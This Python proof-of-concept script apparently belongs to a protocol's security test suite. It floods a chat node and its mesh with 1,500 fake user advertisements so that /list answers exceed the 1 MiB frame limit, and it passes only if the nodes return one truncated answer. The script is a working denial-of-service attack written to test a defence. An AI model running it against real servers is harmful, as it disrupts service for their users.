"""Attack: bloat every node's presence tables and /list answers (issue #15 weakness 3).

Joins as a server (anyone can) and advertises 1,500 made-up users, each with a key and
a long display name: written out in full, a /list answer would be ~1.4 MB, over the
1 MiB frame limit, and a client asking for it would be disconnected. The node attacked
relays the presence to the rest of the mesh (`--mesh-url`), whose lists grow the same
way. Blocked when a user's /list, at the node attacked and at every other node of the
mesh, still gets one answer within the frame limit that says how many users there are
in all, and the connection stays usable.

    python poc/presence_bloat.py --url ws://127.0.0.1:8765 [--mesh-url ws://127.0.0.1:8766 ...] [--users 1500]
"""

from __future__ import annotations

import argparse
import asyncio

from _common import Keys, Peer, Verdict, main, now_ms, user
from socp.protocol import crypto, frames
from socp.protocol.envelope import Envelope
from socp.protocol.errors import MalformedFrame
from socp.protocol.ids import new_id

FRAME_LIMIT = 1024 * 1024


def options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--users", type=int, default=1500, help="made-up users to advertise")


async def run(args: argparse.Namespace, verdict: Verdict) -> None:
    keys = Keys(args.keys)
    server = await Peer(args.url, keys.take(), timeout=args.timeout).open()
    await server.join_as_server()
    made_up_key = crypto.encode_public_key(keys.take())   # one real key for them all
    verdict.tried(f"a joined server advertises {args.users} made-up users with keys and 64-character names")
    for _ in range(args.users):
        advert = frames.user_advertise(server.peer_id, now_ms(), new_id(),
                                       {"pubkey": made_up_key, "display_name": "n" * 64})
        await server.send(server.signed(advert))
    for index, url in enumerate([args.url, *args.mesh_url]):
        where = "the node attacked" if index == 0 else f"{url}, where the presence was relayed"
        await list_within_limit(url, where, keys, args, verdict)


async def list_within_limit(url: str, where: str, keys: Keys, args: argparse.Namespace, verdict: Verdict) -> None:
    verdict.tried(f"a user at {where} asks /list")
    answer: Envelope | None = None
    try:
        asker = await user(url, keys, args.timeout)   # its hello is answered with a /list
        loop = asyncio.get_running_loop()
        deadline = loop.time() + args.timeout
        while True:                     # until the node has taken them all in
            await asker.send(frames.list_request(asker.peer_id, "*", now_ms()))
            answer = await asker.receive("LIST_RESPONSE")
            if answer.payload.get("total", len(answer.payload["users"])) >= args.users or loop.time() > deadline:
                break
            await asyncio.sleep(0.2)
    except MalformedFrame as exc:
        verdict.check(False, f"the /list answer is not one valid frame: {exc}")
        return
    assert answer is not None
    payload = answer.payload
    size = len(answer.to_wire().encode())
    verdict.check(size <= FRAME_LIMIT, f"the /list answer is {size} bytes (limit {FRAME_LIMIT}); lists "
                                       f"{len(payload['users'])} of {payload.get('total', len(payload['users']))}")
    verdict.check(payload.get("total", 0) >= args.users and payload.get("truncated") is True,
                  f"the answer says it is cut (truncated: {payload.get('truncated')}) and how many users "
                  f"there are in all (total: {payload.get('total')})")
    listed = await asker.list_users()
    verdict.check(bool(listed), "the connection still answers /list")
    await asker.close()


if __name__ == "__main__":
    raise SystemExit(main(run, "presence bloat: a joined server advertises thousands of users", options))
